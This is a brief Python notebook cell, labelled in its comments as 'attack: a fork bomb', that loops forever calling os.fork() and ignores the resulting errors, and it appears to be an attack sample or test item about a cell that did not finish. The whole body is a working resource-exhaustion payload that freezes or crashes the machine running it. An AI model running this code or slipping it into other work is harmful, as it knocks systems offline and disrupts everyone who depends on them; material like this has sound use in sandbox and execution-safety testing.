# attack: a fork bomb
# told: Code cell 3 did not run to its end
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
